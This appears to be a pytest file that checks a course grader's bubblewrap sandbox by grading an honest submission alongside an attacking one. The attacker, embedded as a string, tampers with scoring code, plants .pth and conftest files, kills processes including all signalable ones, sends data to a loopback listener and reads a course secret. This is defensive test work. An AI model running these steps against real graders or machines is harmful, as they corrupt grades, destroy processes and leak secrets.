"""The sandbox a graded submission runs in (``suite/sandbox.py``): attacks on the grader end where they start.

One class batch (``suite.grading.batch --jobs 2``), started from a copy of the
project, grades two classmates at once: ``bob``, the complete sample, and
``alice``, the complete sample too, but at every import (each fresh worker)
she tries what issue 13 saw work against an unsandboxed grader: rewriting the
grader's scoring code, planting a ``.pth`` in the environment, a ``.pyc`` in a
library's cache and a ``conftest.py`` among the conformance tests, writing into
a classmate's folder and into the batch's grades folder, leaving files in the
machine's ``/tmp`` and a process behind, killing her parent, a process outside
and every process she may signal, calling a server on the machine, and
reading the course file's secret into her own feedback. She reports in her
version string how many worked.

Both must get the honest score (100), with no integrity note, no file of the
grader's or of bob's changed, nothing left in ``/tmp``, no process left, the
outside process alive, the server never called and the secret nowhere in her
report. Where bubblewrap cannot run here, the run's tests are skipped with the
reason; the unit tests below run everywhere.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import textwrap
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from reports.grading import grade_markdown, results_json
from suite import PROJECT_ROOT, sandbox
from suite.grading.plugin import choose_isolation
from suite.grading.settings import SettingsError, load_settings
from suite.selftest.runs import run_environment
from suite.selftest.samples import make_complete

FOUND = sandbox.probe()
needs_sandbox = pytest.mark.skipif(not FOUND.sandboxed, reason=f"no sandbox on this machine: {FOUND.detail}")

#: The attacker. Upper-case names are filled in by the fixture; each attack's outcome is counted, not shown.
ATTACKER = '''
    import os, signal, socket, subprocess, sys
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from _complete import *

    worked, leaked = [], []

    def attack(name, action):
        try:
            action()
            worked.append(name)
        except BaseException:
            pass

    def append(path, text):
        with open(path, "a") as f:
            f.write(text)

    def kill_everyone():
        if os.getpid() > 50:  # not process 2 of its own namespace: this would kill the machine's processes
            raise RuntimeError("not tried")
        os.kill(-1, signal.SIGKILL)

    def read_secret():
        with open(COURSE) as f:
            leaked.append(f.read())

    attack("rewrote the scoring", lambda: append(SCORING, "\\nraise SystemExit('planted')\\n"))
    attack("planted a .pth", lambda: append(PTH, "# planted by the sandbox self-test\\n"))
    attack("planted a .pyc", lambda: append(PYC, "planted"))
    attack("wrote into the grades folder", lambda: append(FORGED, "forged"))
    attack("planted a conftest", lambda: append(CONFTEST, "raise SystemExit('planted')\\n"))
    attack("wrote into a classmate's folder", lambda: append(CLASSMATE, "x = 'planted'\\n"))
    attack("left a file in /tmp", lambda: append(LEFTOVER, "x" * 1_000_000))
    attack("killed its parent", lambda: os.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 else 1 / 0)
    attack("killed a process outside", lambda: os.kill(DECOY, signal.SIGKILL))
    attack("killed every process it may", kill_everyone)
    attack("called home", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"leak"))
    attack("read the course file", read_secret)
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", MARK], start_new_session=True)
    __version__ = f"attacker: {len(worked)} of 12 attacks worked" + "".join(f"; {w}" for w in worked + leaked)
'''


def _digest(path: Path) -> str:
    """sha256 of a file's bytes ('' where it does not exist)."""
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else ""


def _processes_with(mark: str) -> list[int]:
    """The pids of this machine's processes whose command line holds ``mark``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if mark.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Grade alice (the attacker) and bob (honest) in one sandboxed class batch, two at a time, from a copy of the project."""
    if not FOUND.sandboxed:
        pytest.skip(f"no sandbox on this machine: {FOUND.detail}")
    root = tmp_path_factory.mktemp("sandbox")
    project = root / "project"
    shutil.copytree(PROJECT_ROOT, project, ignore=shutil.ignore_patterns(
        ".git", ".hypothesis", ".pytest_cache", "*.egg-info", "runs", ".venv", "examples"))
    submissions = root / "submissions"
    bob = make_complete(submissions / "bob" / "mytorch")
    report = root / "grades"
    import pandas
    secret = f"SECRET-{uuid.uuid4().hex}"
    course = root / "course.toml"
    course.write_text(f'[grading]\nsecret = "{secret}"\nisolation = "bubblewrap"\n')
    mark = f"sandbox-selftest-{uuid.uuid4().hex}"
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    targets = {
        "SCORING": project / "suite" / "grading" / "scoring.py",
        "PTH": Path(sysconfig.get_paths()["purelib"]) / f"zz_{mark}.pth",
        "PYC": Path(pandas.__file__).parent / "__pycache__" / f"zz_{mark}.cpython-311.pyc",
        "FORGED": report / "FORGED.txt",
        "CONFTEST": project / "suite" / "conformance" / "conftest.py",
        "CLASSMATE": bob / "__init__.py",
        "LEFTOVER": Path("/tmp") / f"{mark}.left",
    }
    before = {name: _digest(path) for name, path in targets.items()}
    source = textwrap.dedent(ATTACKER)
    for name, path in targets.items():
        source = source.replace(name, repr(str(path)))
    source = (source.replace("COURSE", repr(str(course))).replace("DECOY", str(decoy.pid))
              .replace("PORT", str(listener.getsockname()[1])).replace("MARK", repr(mark)))
    make_complete(submissions / "alice" / "_complete")
    (submissions / "alice" / "mytorch.py").write_text(source)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "suite.grading.batch", str(submissions), "--jobs", "2", "--out", str(report),
             "--weights", str(course), "--", "-k", "squeeze or line_fit", "--max-examples", "3"],
            cwd=project, capture_output=True, text=True, timeout=600, env=run_environment())
        time.sleep(0.5)  # anything that outlived its sandbox would still be here
        try:
            listener.accept()
            called = True
        except BlockingIOError:
            called = False
        return {"done": done, "report": report, "targets": targets, "before": before, "secret": secret,
                "decoy_alive": decoy.poll() is None, "left": _processes_with(mark), "called": called}
    finally:
        decoy.kill()
        listener.close()
        targets["PTH"].unlink(missing_ok=True)
        targets["PYC"].unlink(missing_ok=True)  # were the sandbox broken, the planted lines go with the test
        targets["LEFTOVER"].unlink(missing_ok=True)
        for pid in _processes_with(mark):
            os.kill(pid, signal.SIGKILL)


def _results(attacked: dict[str, Any], label: str) -> dict[str, Any]:
    """One classmate's results.json."""
    return json.loads((attacked["report"] / label / "results.json").read_text())


@needs_sandbox
def test_every_attack_was_tried_and_only_the_write_to_its_private_tmp_took(attacked: dict[str, Any]) -> None:
    """Alice's own count: her twelve attacks ran, and only the write to /tmp did, which is her private one.

    (That the machine's /tmp did not get the file is checked below, with the other files.)
    """
    grade = (attacked["report"] / "alice" / "grade.md").read_text()
    assert "(version attacker: 1 of 12 attacks worked; left a file in /tmp)" in grade, attacked["done"].stdout[-3000:]
    assert attacked["done"].returncode == 0, attacked["done"].stdout[-3000:] + attacked["done"].stderr[-3000:]


@needs_sandbox
@pytest.mark.parametrize("label", ["alice", "bob"])
def test_both_classmates_get_the_honest_score_from_a_sandboxed_run(attacked: dict[str, Any], label: str) -> None:
    """100 each, with no integrity note, and the isolation named in results.json and staff.json."""
    data = _results(attacked, label)
    assert data["score"] == data["max_score"] == 100, attacked["done"].stdout[-3000:]
    assert data["extra_data"]["integrity"] == [] and data["extra_data"]["isolation"]["kind"] == "bubblewrap"
    assert json.loads((attacked["report"] / label / "staff.json").read_text())["isolation"] == "bubblewrap"


@needs_sandbox
def test_no_file_outside_the_sandbox_changed_and_nothing_was_left(attacked: dict[str, Any]) -> None:
    """The scoring code, the environment, a library's cache, the tests, bob's files, the grades folder, the machine's
    /tmp: as they were; no process left, and the process outside alive."""
    after = {name: _digest(path) for name, path in attacked["targets"].items()}
    assert after == attacked["before"]
    assert attacked["left"] == [] and attacked["decoy_alive"]


@needs_sandbox
def test_the_network_and_the_course_secret_are_out_of_reach(attacked: dict[str, Any]) -> None:
    """The server on the machine's loopback was never called; the secret is in no file of alice's report."""
    assert not attacked["called"]
    for path in (attacked["report"] / "alice").iterdir():
        assert attacked["secret"] not in path.read_text(errors="replace"), path.name


@needs_sandbox
def test_files_in_the_private_tmp_count_against_the_memory_limit(tmp_path: Path) -> None:
    """300 MB written to its /tmp (memory, being tmpfs) stops a worker limited to 200 MiB, with the cause named.

    (In six files: one file may not pass the worker's 64 MiB output limit.)
    """
    from impls.registry import parse_spec
    from suite.backends import Limits, WorkerBackend
    from suite.outcomes import BackendError, Cause

    hoarder = tmp_path / "hoarder.py"
    hoarder.write_text("import time\nfor i in range(6):\n    with open(f'/tmp/hoard{i}', 'wb') as f:\n"
                       "        f.write(b'x' * 50 * 2**20)\ntime.sleep(60)\n")
    backend = WorkerBackend(parse_spec(f"hoarder={hoarder}"), Limits(seconds=30, memory_bytes=200 * 2**20), ("cpu",),
                            sandboxed=True)
    try:
        with pytest.raises(BackendError) as raised:
            backend.load()
    finally:
        backend.close()
    assert raised.value.cause is Cause.MEMORY and "with the files in its private /tmp" in str(raised.value)
    assert not list(Path("/tmp").glob("hoard*"))


@needs_sandbox
def test_the_sandbox_command_writes_only_the_output_file(tmp_path: Path) -> None:
    """bwrap's command line: every bind of the host read-only but the one output file; namespaces all unshared."""
    output = tmp_path / "output.log"
    argv = sandbox.command(["python"], own=str(tmp_path), private=[str(tmp_path / "private")],
                           writable_files=[str(output)], workdir=str(tmp_path / "cwd"))
    writable = [argv[i + 1] for i, arg in enumerate(argv) if arg in ("--bind", "--bind-try")]
    assert writable == [str(output)]
    assert {"--unshare-pid", "--unshare-net", "--unshare-ipc", "--die-with-parent", "--clearenv"} <= set(argv)
    assert str(PROJECT_ROOT) not in [argv[i + 1] for i, arg in enumerate(argv) if arg == "--ro-bind"]


def test_a_required_sandbox_that_cannot_be_had_stops_the_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """isolation = "bubblewrap" where bwrap is refused: a usage error that says what to do; "auto" grades without."""
    refused = sandbox.Isolation("none", "bwrap is not installed; on Debian or Ubuntu: apt-get install bubblewrap")
    monkeypatch.setattr("suite.grading.plugin.probe_sandbox", lambda: refused)
    with pytest.raises(pytest.UsageError, match="apt-get install bubblewrap"):
        choose_isolation("bubblewrap")
    assert choose_isolation("auto") == refused
    assert choose_isolation("none").kind == "none" and "course asks for none" in choose_isolation("none").detail


def test_a_run_without_a_sandbox_says_so_at_the_top(tmp_path: Path) -> None:
    """grade.md and results.json open with it; a course file cannot ask for an isolation that does not exist."""
    grade = {"submission": "alice", "score": 50.0, "max_score": 100.0, "families": [], "behaviours": [],
             "isolation": {"kind": "none", "detail": "bwrap is not installed", "text": "none (bwrap is not installed)"}}
    assert "**Graded without a sandbox:** bwrap is not installed." in grade_markdown(grade).split("\n\n")[1]
    data = results_json(grade)
    assert data["output"].startswith("Graded without a sandbox: bwrap is not installed.")
    assert data["extra_data"]["isolation"] == {"kind": "none", "detail": "bwrap is not installed"}
    course = tmp_path / "course.toml"
    course.write_text('[grading]\nisolation = "chroot"\n')
    with pytest.raises(SettingsError, match="isolation must be one of bubblewrap, auto, none"):
        load_settings(course)
    assert load_settings().isolation == "auto"
